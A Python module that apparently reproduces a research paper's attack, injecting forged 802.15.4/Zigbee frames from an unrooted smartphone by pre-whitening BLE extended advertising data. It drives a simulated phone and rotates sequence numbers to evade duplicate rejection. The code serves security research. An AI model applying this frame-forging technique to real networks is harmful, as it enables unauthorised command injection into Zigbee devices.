"""Scenario A: 802.15.4 frame injection from an unrooted smartphone (§VI-B).

The attacker controls only the advertising data of an extended-advertising
set.  The trick chain, straight from the paper:

1. pick the PN sequences (encoded as MSK rotation bits) for the frame to
   transmit — :func:`repro.core.encoding.frame_to_msk_bits`;
2. prepend padding for the headers that precede the advertising data on the
   air (PDU header, extended header, AD framing, company id — 16 bytes);
3. apply the (self-inverse) whitening transform of the *target BLE channel*
   to the padded vector — the controller will whiten the PDU again,
   restoring the raw chip stream on air.  "As this operation depends on
   the channel, it allows to select a specific Zigbee channel";
4. crop the padding and hand the result to the advertising API.

Only events whose CSA#2 draw equals the target BLE channel produce a valid
802.15.4 frame; the attacker simply advertises at the smallest interval.
The reception primitive is impossible at this privilege level (invalid BLE
frames never leave the controller), which the chip model enforces.
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass
from typing import List

import numpy as np

from repro.ble.packets import manufacturer_data
from repro.ble.whitening import whiten
from repro.chips.smartphone import AdvertisingEvent, SmartphoneBle
from repro.core.channel_map import ble_channel_for_zigbee
from repro.core.encoding import frame_to_msk_bits
from repro.dot15d4.frames import MacFrame
from repro.obs import ATTACK_STAGE
from repro.obs import metrics as _current_metrics
from repro.obs import trace_bus as _current_bus
from repro.utils.bits import pack_bits

__all__ = ["forge_advertising_data", "SmartphoneInjectionAttack"]

#: Nordic Semiconductor's Bluetooth company identifier — any value works;
#: the two bytes are part of the uncontrolled padding.
COMPANY_ID = 0x0059


def forge_advertising_data(psdu: bytes, ble_channel: int) -> bytes:
    """Build the AD structures that inject *psdu* on *ble_channel*.

    Returns the advertising-data bytes to pass to the smartphone API.
    Raises ``ValueError`` when the frame is too large for one AUX_ADV_IND.
    """
    padding_bytes = SmartphoneBle.aux_data_offset_bytes() + 4
    msk_bits = frame_to_msk_bits(psdu)
    padded = np.concatenate(
        [np.zeros(8 * padding_bytes, dtype=np.uint8), msk_bits]
    )
    pad_tail = (-padded.size) % 8
    if pad_tail:
        padded = np.concatenate([padded, np.zeros(pad_tail, dtype=np.uint8)])
    dewhitened = whiten(padded, ble_channel)
    data = pack_bits(dewhitened[8 * padding_bytes :])
    ad = manufacturer_data(COMPANY_ID, data).to_bytes()
    if len(ad) > 245:
        raise ValueError(
            f"frame too large for extended advertising: AD is {len(ad)} bytes "
            "(max 245); use a PSDU of at most ~24 bytes"
        )
    return ad


@dataclass
class InjectionRecord:
    """Bookkeeping for one advertising event."""

    event: AdvertisingEvent
    on_target_channel: bool


class SmartphoneInjectionAttack:
    """Drives the smartphone API to inject a fixed 802.15.4 frame."""

    def __init__(self, phone: SmartphoneBle, zigbee_channel: int, frame: MacFrame):
        ble_channel = ble_channel_for_zigbee(zigbee_channel)
        if ble_channel is None:
            raise ValueError(
                f"Zigbee channel {zigbee_channel} has no BLE channel at the "
                "same frequency; a high-level-API attacker can only reach "
                "the common channels of Table II"
            )
        self.phone = phone
        self.zigbee_channel = zigbee_channel
        self.ble_channel = ble_channel
        self.frame = frame
        self.adv_data = forge_advertising_data(frame.to_bytes(), ble_channel)
        self.records: List[InjectionRecord] = []
        self.trace = _current_bus()
        self.metrics = _current_metrics()
        self._sequence = frame.sequence_number

    def _now(self) -> float:
        return getattr(getattr(self.phone, "_scheduler", None), "now", 0.0)

    def _stage(self, stage: str, **fields) -> None:
        self.metrics.counter(f"attack.a.stage.{stage}").inc()
        if self.trace.active:
            self.trace.emit(
                ATTACK_STAGE,
                time=self._now(),
                scenario="smartphone-injection",
                stage=stage,
                **fields,
            )

    def start(self) -> None:
        """Begin advertising at the shortest interval the API allows; each
        event is recorded with its CSA#2 draw."""
        self._stage(
            "advertising",
            zigbee_channel=self.zigbee_channel,
            ble_channel=self.ble_channel,
        )
        self.phone.start_extended_advertising(
            self.adv_data,
            event_callback=self._on_event,
        )

    def stop(self) -> None:
        self.phone.stop_advertising()

    def _on_event(self, event: AdvertisingEvent) -> None:
        on_target = event.secondary_channel == self.ble_channel
        self.records.append(
            InjectionRecord(event=event, on_target_channel=on_target)
        )
        self.metrics.counter("attack.a.events").inc()
        if on_target:
            self.metrics.counter("attack.a.events.on_target").inc()
        # Rotate the MAC sequence number between events so the target's
        # duplicate-rejection does not swallow repeated injections — the app
        # legitimately updates its advertising data via the standard API.
        self._sequence = (self._sequence + 1) & 0xFF
        rotated = dataclasses.replace(self.frame, sequence_number=self._sequence)
        self.phone.set_advertising_data(
            forge_advertising_data(rotated.to_bytes(), self.ble_channel)
        )

    # -- statistics -----------------------------------------------------------
    @property
    def events_total(self) -> int:
        return len(self.records)

    @property
    def events_on_target(self) -> int:
        return sum(1 for r in self.records if r.on_target_channel)

    def hit_rate(self) -> float:
        """Fraction of advertising events that landed on the target channel
        (expected ≈ 1/37 with a full channel map)."""
        if not self.records:
            return 0.0
        return self.events_on_target / self.events_total
